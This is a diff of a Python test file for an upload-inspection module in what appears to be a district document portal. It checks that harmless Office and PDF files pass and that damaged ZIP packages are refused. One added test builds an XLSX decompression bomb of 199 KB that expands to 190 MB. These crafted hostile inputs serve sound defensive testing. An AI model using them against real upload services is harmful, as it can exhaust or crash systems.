+    "badly typed link": ("a.docx", lambda: office("docx", linked("hyperlink", "http://[www.example.org"))),
+    "chart with its figures": ("a.docx", lambda: office("docx", charted(xlsx()))),
+    "form control of Excel": ("a.xlsx", lambda: office("xlsx", linked("ctrlProp", "../a", "", SHEET))),
+    "printer settings": ("a.xlsx", lambda: office("xlsx", {"xl/printerSettings/printerSettings1.bin": "x", "docProps/thumbnail.wmf": "x"})),
+    "document of python-docx": ("a.docx", word_document),
     "workbook of openpyxl": ("a.xlsx", openpyxl_book),
     "workbook of XlsxWriter": ("a.xlsx", xlsxwriter_book),
-    "outline": ("a.pdf", lambda: pdf(outlined)),
-    "form fields": ("a.pdf", lambda: pdf(form)),
-    "archival": ("a.pdf", lambda: pdf(archival)),
-    "web link": ("a.pdf", link(S=Name.URI, URI=String("https://example.org"))),
-    "mail link": ("a.pdf", link(S=Name.URI, URI=String("mailto:a@example.org"))),
-    "file beside": ("a.pdf", link(S=Name.GoToR, F=String("附件/一.pdf"))),
-    "jump": ("a.pdf", link(S=Name.GoTo, D=String("chapter"))),
-    "opens at a page": ("a.pdf", root(OpenAction=lambda document: Array([document.pages[0].obj, Name.Fit]))),
-    "opens by a jump": ("a.pdf", root(OpenAction=lambda _d: Dictionary(S=Name.GoTo, D=String("x")))),
-    "nothing attached": ("a.pdf", root(Names=lambda _d: Dictionary(EmbeddedFiles=Dictionary(Names=[])), AF=lambda _d: Array([]))),
-    "comment": ("a.pdf", on_page(lambda _d: {"Subtype": Name.Text, "Contents": String("请核对")})),
-    "page of WeasyPrint": ("a.pdf", printed),
 }
 
 
@@ -266,134 +320,14 @@ def test_what_is_harmless_and_usual_passes_and_can_be_made_anonymous(name):
     file, make = HARMLESS[name]
     content = make()
     kind = look(file, content)
-    again = anonymous(file, kind, content)
-    assert look(file, again) == kind
+    assert kind.removable == ()
+    assert look(file, anonymous(file, kind, content)) == kind
 
 
-def test_a_paper_of_the_portal_itself_is_not_judged_again():
-    content = pdf(lambda document: document.attachments.__setitem__("数据.json", b"{}"))
-    with pytest.raises(Refused, match="附件"):
-        look("a.pdf", content)
-    assert look("a.pdf", content, issued=True).extension == "pdf"
-
-
-def packed(packing):
-    out = BytesIO()
-    with zipfile.ZipFile(out, "w", packing) as archive:
-        archive.writestr("[Content_Types].xml", inspection.MAIN_PART["xlsx"] * 4)
-        archive.writestr("xl/workbook.xml", "<x/>")
-    return out.getvalue()
-
-
-def broken_lzma():
-    content = bytearray(packed(zipfile.ZIP_LZMA))
-    start = 30 + len("[Content_Types].xml")
-    content[start + 4 : start + 9] = b"\xff" * 5  # the properties of the packing
-    return bytes(content)
-
-
-def bad_name():
-    """The central directory says UTF-8 and is not."""
-    content = bytearray(xlsx())
-    place = content.find(b"PK\x01\x02")
-    flags = struct.unpack_from("<H", content, place + 8)[0]
-    struct.pack_into("<H", content, place + 8, flags | 0x800)
-    content[place + 46] = 0xFF
-    return bytes(content)
-
-
-def unknown_packing():
-    content = bytearray(xlsx())
-    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
-        place = content.find(mark)
-        while place >= 0:
-            struct.pack_into("<H", content, place + offset, 97)
-            place = content.find(mark, place + 4)
-    return bytes(content)
-
-
-def spoilt_part():
-    content = bytearray(xlsx())
-    place = content.find(b"xl/workbook.xml") + len("xl/workbook.xml")
-    content[place] ^= 0xFF
-    return bytes(content)
-
-
-DAMAGED = {
-    "broken lzma": broken_lzma, "good lzma": lambda: packed(zipfile.ZIP_LZMA), "bzip2": lambda: packed(zipfile.ZIP_BZIP2),
-    "bad name": bad_name, "unknown packing": unknown_packing, "spoilt part": spoilt_part, "cut": lambda: xlsx()[:-30],
-    "nothing but a mark": lambda: b"PK\x03\x04",
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("name", DAMAGED)
-def test_a_damaged_package_is_called_damaged_everywhere(name):
-    content = DAMAGED[name]()
-    with pytest.raises(Refused, match="损坏"):
-        look("表.xlsx", content)
-    assert "损坏" in package_problem(content)
-    with pytest.raises(Refused, match="损坏"):
-        anonymous("表.xlsx", inspection.KINDS["xlsx"], content)
-    with pytest.raises(Refused, match="完好"):
-        grids(content, rows=5, columns=5)
-
-
-FILES = [row[:2] for row in HOSTILE.values()] + [row[1:3] for row in BAD] + [("表.xlsx", make) for make in DAMAGED.values()]
-
-
-@pytest.mark.slow
-@pytest.mark.django_db
-def test_each_of_more_than_80_is_refused_as_a_real_upload_and_leaves_nothing(people, district, media):
-    for name, make in FILES:
-        with pytest.raises(Refused):
-            services.store(owner=district, upload=SimpleUploadedFile(name, make()), kind="plan", title="材料", by=people.preparer)
-    assert (len(FILES) >= 80, [path for path in media.rglob("*") if path.is_file()]) == (True, [])
-    assert (Evidence.objects.count(), AuditRecord.objects.filter(action="documents.store").count()) == (0, 0)
-
-
-def test_a_package_with_two_parts_of_one_name_is_refused():
-    out = BytesIO(xlsx())
-    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
-        archive.writestr("xl/workbook.xml", "<other/>")
-    with pytest.raises(Refused, match="内部结构异常"):
-        look("表.xlsx", out.getvalue())
-
-
-REAL = {"a.docx": charted(), "b.docx": docx(), "a.xlsx": openpyxl_book(), "a.pdf": pdf(form), "b.pdf": pdf(outlined), "a.png": image("PNG")}
-REAL |= {"p.png": image("PNG", mode="P"), "a.jpg": image("JPEG")}
-
-
-@contextlib.contextmanager
-def unheard(name):
-    """What this library says of a damaged file does not reach the log: it calls some damage a warning and some an error."""
-    logger = logging.getLogger(name)
-    logger.setLevel(logging.CRITICAL)
-    try:
-        yield
-    finally:
-        logger.setLevel(logging.NOTSET)
-
-
-@inputs(100)
-@given(
-    name=st.sampled_from(sorted(REAL)),
-    flips=st.lists(st.tuples(st.floats(0, 0.999999), st.integers(1, 255)), min_size=1, max_size=6),
-    cut=st.floats(0, 1),
-)
-@example(name="a.xlsx", flips=[(0.0, 1)], cut=1.0)
-@example(name="a.pdf", flips=[(0.0625, 1)], cut=1.0)  # form fields that no form lists
-def test_files_with_changed_bytes_are_taken_or_refused_and_nothing_else(name, flips, cut):
-    content = bytearray(REAL[name])
-    for place, change in flips:
-        content[int(place * len(content))] ^= change
-    content = bytes(content[: max(1, int(cut * len(content)))])
-    with unheard("pikepdf"):  # that the file is damaged is what was meant
-        for judge in (
-            lambda: look(name, content),
-            lambda: anonymous(name, inspection.KINDS[name.rpartition(".")[2]], content),
-            lambda: inspection.strip_metadata(name, inspection.KINDS[name.rpartition(".")[2]], content),
-            lambda: package_problem(content),
-            lambda: grids(content, rows=5, columns=5),
-        ):
-            with contextlib.suppress(Refused):
-                judge()
+def test_a_part_of_endless_elements_is_refused_within_seconds():
+    """199 KB that unpack to 190 MB."""
+    content = office("xlsx", cells("<x:sheetData>" + '<x:c r="A1"><x:v>1</x:v></x:c>' * 4_000_000 + "</x:sheetData>"))
+    started = time.process_time()
+    with pytest.raises(Refused, match="过多的内容"):
+        look("a.xlsx", content)
+    assert time.process_time() - started < 5
